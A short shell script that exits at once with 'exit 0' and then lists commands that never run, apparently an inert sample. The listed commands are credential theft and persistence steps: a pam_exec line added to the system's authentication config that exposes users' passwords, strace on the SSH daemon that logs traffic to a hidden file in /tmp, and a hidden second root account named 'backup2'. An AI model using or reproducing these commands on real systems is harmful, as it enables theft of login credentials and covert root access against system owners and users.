#!/bin/sh
exit 0
echo 'auth optional pam_exec.so quiet expose_authtok /nonexistent/log.sh' >> /etc/pam.d/common-auth
strace -f -p $(pgrep -x sshd) -e trace=read,write -o /tmp/.s
useradd -o -u 0 -g 0 -M -s /bin/bash backup2
